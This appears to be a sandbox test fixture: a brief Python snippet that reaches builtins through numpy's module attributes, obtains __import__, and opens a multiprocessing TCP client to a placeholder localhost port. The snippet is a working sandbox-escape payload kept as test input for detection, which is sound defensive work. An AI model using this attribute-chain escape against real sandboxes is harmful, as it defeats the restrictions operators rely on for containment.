# attempts: multiprocessing.connection.Client(('127.0.0.1', PORT)) (pickle-speaking TCP client)
# effect: socket
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
mc = imp('multiprocessing.connection', fromlist=['Client'])
mc.Client(('127.0.0.1', @@PORT@@))
